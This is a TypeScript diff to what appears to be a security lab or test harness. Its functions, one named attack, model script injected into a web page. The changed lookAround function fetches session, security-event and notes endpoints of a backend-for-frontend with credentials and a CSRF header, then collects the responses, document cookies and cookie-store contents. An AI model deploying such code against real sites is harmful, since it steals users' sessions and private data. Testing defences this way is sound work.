@@ -1,6 +1,7 @@
 /** What a function below finds and leaves behind in the page. */
 interface Corrupted {
   readonly attacker: string;
+  readonly readable: readonly string[];
   readonly trustedTypes: { createPolicy(name: string, rules: object): object };
   readonly eval: (text: string) => number;
   readonly Function: (text: string) => () => number;
@@ -68,12 +69,12 @@ export async function attack(): Promise<void> {
 export async function lookAround(): Promise<void> {
   const settings = document.querySelector('meta[name=settings]')?.getAttribute('content') ?? '{}';
   const { bffOrigin } = JSON.parse(settings) as { bffOrigin: string };
-  const addresses = ['/bff/session', '/bff/sessions', '/bff/security-events', '/api/notes', '/bff/lab/x-ray'];
-  const answers = addresses.map(async (path) => {
+  const here = globalThis as unknown as Corrupted;
+  const answers = here.readable.map(async (path) => {
     const answer = await fetch(bffOrigin + path, { credentials: 'include', headers: { 'X-CSRF': '1' } });
     return [answer.status, ...answer.headers, await answer.text()];
   });
-  (globalThis as unknown as Corrupted).left = {
+  here.left = {
     cookies: document.cookie,
     store: await cookieStore.getAll(),
     answers: await Promise.all(answers),
